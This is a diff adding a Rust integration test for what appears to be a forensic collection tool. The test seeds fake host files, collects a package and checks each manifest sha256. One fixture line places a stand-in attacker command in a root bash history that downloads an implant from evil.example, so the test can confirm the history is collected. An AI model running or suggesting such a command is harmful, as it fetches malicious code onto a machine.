@@ -410,3 +410,68 @@ pub async fn persistence_entries_are_removed_and_restored(env: &'static Env) -> 
     let _ = std::fs::remove_dir_all(&root);
     Ok(())
 }
+
+/// collect: the package downloads through the file API, and every sha256 of its manifest
+/// matches the entry it names.
+pub async fn a_collected_package_matches_its_manifest(env: &'static Env) -> Result<()> {
+    let (ns, device) = ("lr-collect", "collected");
+    let root = host_root("collect")?;
+    for (p, text) in [
+        ("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
+        ("etc/hostname", "collected\n"),
+        ("var/log/auth.log", "sshd[7]: Accepted publickey for root\n"),
+        ("root/.bash_history", "wget http://evil.example/implant\n"),
+    ] {
+        let f = root.join(p);
+        std::fs::create_dir_all(f.parent().context("parent")?)?;
+        std::fs::write(f, text)?;
+    }
+    let client = setup(env, ns, device, &root).await?;
+    let c = Cmd::new("s", "collect", &[])
+        .run(&client, ns, "package")
+        .await?;
+    lr::succeeded(&c)?;
+    let file = c.status.and_then(|s| s.file).context("no status.file")?;
+    let dir = host_root("collect-download")?;
+    let dest = dir.join("package.tar.gz");
+    let dest_s = dest.to_string_lossy().into_owned();
+    let (ok, _, err) = lr::cli(
+        &env.cluster,
+        "analyst-advanced",
+        &["-n", ns, "download", "package", "-o", &dest_s],
+    )?;
+    ensure!(ok, "download failed: {err}");
+    let out = dir.join("x");
+    std::fs::create_dir_all(&out)?;
+    sh(
+        &["tar", "-xzf", &dest_s, "-C", &out.to_string_lossy()],
+        None,
+    )?;
+    let manifest: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(out.join("manifest.json"))?)?;
+    let entries = manifest["entries"].as_array().context("no entries")?;
+    ensure!(entries.len() >= 8, "a thin package: {manifest}");
+    for e in entries {
+        let name = e["name"].as_str().context("name")?;
+        let data = std::fs::read(out.join(name)).with_context(|| name.to_string())?;
+        use sha2::Digest;
+        ensure!(
+            e["sha256"] == hex::encode(sha2::Sha256::digest(&data)),
+            "{name}: its sha256 is not the manifest's"
+        );
+    }
+    ensure!(
+        std::fs::read_to_string(out.join("histories/root/.bash_history"))?.contains("evil.example"),
+        "the shell history is not in the package"
+    );
+    eprintln!(
+        "collect: {} entries, {} bytes, sha256 {}; every manifest digest matches",
+        entries.len(),
+        file.size,
+        file.sha256
+    );
+    env.stack.kill_agent(ns, device);
+    let _ = std::fs::remove_dir_all(&root);
+    let _ = std::fs::remove_dir_all(&dir);
+    Ok(())
+}
